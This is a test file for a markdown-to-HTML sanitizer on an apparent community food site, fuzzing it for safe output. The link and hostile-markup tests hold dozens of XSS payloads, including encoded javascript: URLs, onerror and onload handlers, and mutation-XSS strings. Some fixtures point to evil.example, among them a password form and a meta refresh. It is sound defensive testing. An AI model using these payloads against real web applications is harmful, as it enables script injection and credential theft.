/** What people write becomes a few harmless elements, whatever they write. */
import t from 'tap';
import { markdownToHtml, type MarkdownOptions } from '../../web/markdown.ts';

const options: MarkdownOptions = {
  url: (path) => `/c/food${path}`,
  tableLabel: (number, columns) => `Table ${number}: ${columns}`,
};
const html = (source: string, level?: MarkdownOptions['level']) => markdownToHtml(source, { ...options, level }).trim();

/** Each tag of some HTML, with its attributes. */
const tagsOf = (text: string) =>
  [...text.matchAll(/<(\/?)([a-z][a-z0-9]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([all, , name = '', attributes = '']) => ({
      all,
      name: name.toLowerCase(),
      attributes: [...attributes.matchAll(/([^\s"'<>/=]+)(?:="([^"]*)")?/g)].map(
        ([, key = '', value = '']) => [key.toLowerCase(), value] as const,
      ),
    }),
  );
// prettier-ignore
const tags = new Set([
  'p', 'br', 'hr', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'div',
  'table', 'thead', 'tbody', 'tr', 'th', 'td',
]);
const attributes = new Set(['href', 'rel', 'start', 'class', 'role', 'tabindex', 'aria-label', 'scope']);

/** Whether an address, read as a browser reads it on a page of the community, is none or one of another kind than a script. */
const isHarmless = (href: string) => {
  const url = URL.parse(href.replaceAll('&amp;', '&').replaceAll('&quot;', '"'), 'https://food.example/c/food/about');
  return url === null || ['https:', 'http:', 'mailto:', 'tel:', 'sms:'].includes(url.protocol);
};

/** Whether HTML has nothing but the allowed elements, each closed in its order, and links that lead to no script. */
function harm(text: string): string | undefined {
  const rest = text.replaceAll(/<(\/?)([a-z][a-z0-9]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*\/?>/gi, '');
  if (/[<>]/.test(rest)) return `a loose bracket: ${/.{0,20}[<>].{0,20}/s.exec(rest)?.[0]}`;
  const open: string[] = [];
  for (const { all, name, attributes: own } of tagsOf(text)) {
    if (!tags.has(name)) return all;
    for (const [key, value] of own) {
      if (!attributes.has(key)) return all;
      if (key === 'href' && !isHarmless(value)) return all;
    }
    if (name === 'br' || name === 'hr') continue;
    if (all.startsWith('</')) {
      if (open.pop() !== name) return `${all} closes what is not open`;
    } else open.push(name);
  }
  return open.length > 0 ? `left open: ${open.join()}` : undefined;
}

t.test('ordinary writing comes out as it was meant', async (t) => {
  t.equal(html('Bread **and** _salt_'), '<p>Bread <strong>and</strong> <em>salt</em></p>');
  t.equal(html('10 Carden St\nGuelph'), '<p>10 Carden St<br />\nGuelph</p>', 'a line break is one');
  t.equal(html('- a\n- b'), '<ul>\n<li>a</li>\n<li>b</li>\n</ul>');
  t.equal(html('3. c'), '<ol start="3">\n<li>c</li>\n</ol>');
  t.equal(html('> Pull up a chair.'), '<blockquote>\n<p>Pull up a chair.</p>\n</blockquote>');
  t.equal(html('`npm ci`'), '<p><code>npm ci</code></p>');
  t.equal(html(''), '');
});

t.test('headings begin below the heading that the text stands under, and none is skipped', async (t) => {
  const levels = (source: string, level?: MarkdownOptions['level']) =>
    [...html(source, level).matchAll(/<h(\d)>/g)].map(([, one]) => Number(one));
  t.same(levels('# One\n\n## Two\n\n# One'), [2, 3, 2]);
  t.same(levels('#### Deep\n\n###### Deeper\n\n## Up'), [2, 3, 2]);
  t.same(levels('# A\n\n### B\n\n## C\n\n#### D', 3), [3, 4, 4, 5]);
  t.same(levels('Underlined\n===\n\nLess\n---'), [2, 3]);
  t.same(levels('# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6', 5), [5, 6, 6, 6, 6, 6], 'there is no h7');
  for (let seed = 1; seed < 200; seed += 1) {
    const source = Array.from({ length: 12 }, (_, at) => `${'#'.repeat(1 + ((seed * 7 + at * seed * 13) % 6))} h`);
    const found = levels(source.join('\n\n'));
    t.equal(found[0], 2);
    if (found.some((level, at) => at > 0 && level > (found[at - 1] ?? 0) + 1))
      t.fail(`${source.join()}: ${found.join()}`);
  }
});

t.test('links lead where they say, and never into a script', async (t) => {
  t.equal(html('[rules](/rules)'), '<p><a href="/c/food/rules">rules</a></p>', 'a path of the community');
  t.equal(
    html('[x](https://example.org/a?b=1&c=2)'),
    '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow ugc">x</a></p>',
  );
  t.match(html('see https://example.org.'), /<a href="https:\/\/example\.org" rel="noopener nofollow ugc">/);
  t.equal(html('[call](tel:116123)'), '<p><a href="tel:116123">call</a></p>');
  t.match(html('a@example.org'), /href="mailto:a@example\.org"/);
  t.notMatch(html('guide.md'), /<a/, 'a file is no address');
  for (const target of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    '%6Aavascript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'file:///etc/passwd',
    'blob:https://example.org/1',
    '//evil.example/',
    '/\\evil.example/',
    '\\\\evil.example/',
  ])
    for (const source of [
      `[x](${target})`,
      `[x](<${target}>)`,
      `<${target}>`,
      `[x]\n\n[x]: ${target}`,
      `![x](${target})`,
    ]) {
      const out = html(source);
      t.equal(harm(out), undefined, source);
      for (const [, href = ''] of out.matchAll(/href="([^"]*)"/g)) {
        const url = URL.parse(href.replaceAll('&amp;', '&'), 'https://food.example/c/food/about');
        t.not(url?.host, 'evil.example', source);
      }
    }
});

t.test('HTML of the author stays text', async (t) => {
  t.equal(html('<b>x</b>'), '<p>&lt;b&gt;x&lt;/b&gt;</p>');
  t.equal(html('<!-- gone -->'), '<p>&lt;!-- gone --&gt;</p>', 'what was typed is not lost');
  t.equal(
    html('![a **loaf**](https://example.org/loaf.png)'),
    '<p>a **loaf**</p>',
    'a picture is what it shows, in words',
  );
});

t.test('a table scrolls in a region with a name, and numbers stand to the right', async (t) => {
  const out = html('| What | Cost |\n|---|--:|\n| Fridge | 36,000 |\n\n| "Q" & <b> |\n|---|\n| x |');
  t.match(out, '<div class="scroll" role="region" tabindex="0" aria-label="Table 1: What, Cost"><table class="table">');
  t.match(out, '<th scope="col" class="n">Cost</th>');
  t.match(out, '<td class="n">36,000</td>');
  t.match(out, 'aria-label="Table 2: &quot;Q&quot; &amp; &lt;b&gt;"', 'the name cannot leave its quotes');
  t.notMatch(out, 'style=');
  t.equal(harm(out), undefined);
});

t.test('hostile markup is inert', async (t) => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg><g/onload=alert(1)//<p>',
    '<math><p></math><script>alert(1)</script>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>@import url(https://evil.example)</style>',
    '<form action=//evil.example><input name=password>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '</div></main><h1>Sign in again</h1>',
    '"><script>alert(1)</script>',
    '[x](https://example.org "onmouseover=alert(1) x=\\"")',
    "[x](https://example.org'onclick=alert(1)//)",
    '[x](https://example.org"onclick="alert(1))',
    '[<img src=x onerror=alert(1)>](/rules)',
    '![x" onerror="alert(1)](x)',
    '```"><script>alert(1)</script>\ncode\n```',
    '``` js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    '~~~ <svg onload=alert(1)>\nx\n~~~',
    '    <script>indented()</script>',
    '`<script>alert(1)</script>`',
    '# <img src=x onerror=alert(1)>',
    '- <li onclick=alert(1)>',
    '| <script> | "onload= |\n|---|---|\n| <img src=x> | [x](javascript:1) |',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\\<script>alert(1)\\</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<ſcript>alert(1)</ſcript>',
    '＜script＞alert(1)＜/script＞',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<https://example.org/"onclick="alert(1)>',
    'https://example.org/<script>alert(1)</script>',
    'https://example.org/"onmouseover="alert(1)',
    '[a]: javascript:alert(1)\n\n[a]',
    '[a]: <javascript:alert(1)> "x"\n\n[a][a]',
    '\u202E<script>alert(1)</script>',
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
  ];
  for (const source of hostile) {
    const out = html(source);
    t.equal(harm(out), undefined, `${source}\n${out}`);
  }
  // any two of them run together, in lists, quotes, tables and headings
  for (const [at, one] of hostile.entries())
    for (const other of hostile.slice(at % 5, hostile.length).filter((_, place) => place % 5 === 0))
      for (const source of [
        `${one}${other}`,
        `> - ${one}\n> - ${other}`,
        `# ${one}\n${other}`,
        `|${one}|\n|-|\n|${other}|`,
      ]) {
        const found = harm(html(source));
        if (found !== undefined) t.fail(`${source}: ${found}`);
      }
});

t.test('random rubbish of marks stays harmless', async (t) => {
  const pieces = [
    '<',
    '>',
    '"',
    "'",
    '`',
    '[',
    ']',
    '(',
    ')',
    '!',
    '\n',
    '\n\n',
    '    ',
    '|',
    '-',
    '#',
    '*',
    '_',
    '&',
    ';',
    '\\',
    ':',
    '/',
  ];
  const words = [
    'script',
    'javascript:',
    'onload=',
    'href',
    'a',
    'https://x.example',
    'style',
    '|---|',
    '```',
    '&#60;',
    '&lt;',
    '\u0000',
  ];
  const all = [...pieces, ...words];
  let state = 42;
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  for (let round = 0; round < 3000; round += 1) {
    const source = Array.from({ length: 3 + next(30) }, () => all[next(all.length)]).join('');
    const found = harm(html(source));
    if (found !== undefined) t.fail(`${JSON.stringify(source)}: ${found}`);
  }
  t.pass('3000 texts');
});

t.test('the longest text is rendered in good time, however it is knotted', async (t) => {
  const most = 40_000;
  for (const piece of [
    '[',
    '![',
    '*',
    '**a ',
    '_a',
    '`',
    '> ',
    '- ',
    '<',
    '&#',
    '\\',
    '[a](<',
    '[a]: ',
    'a@',
    'http://',
    '|',
    '(http://a ',
    '"',
    '#\n',
    '|-|\n',
  ]) {
    const source = piece.repeat(most / piece.length);
    const start = performance.now();
    const out = html(source);
    const took = performance.now() - start;
    t.ok(took < 2000, `${JSON.stringify(piece)} took ${Math.round(took)} ms`);
    t.equal(harm(out), undefined, piece);
  }
});
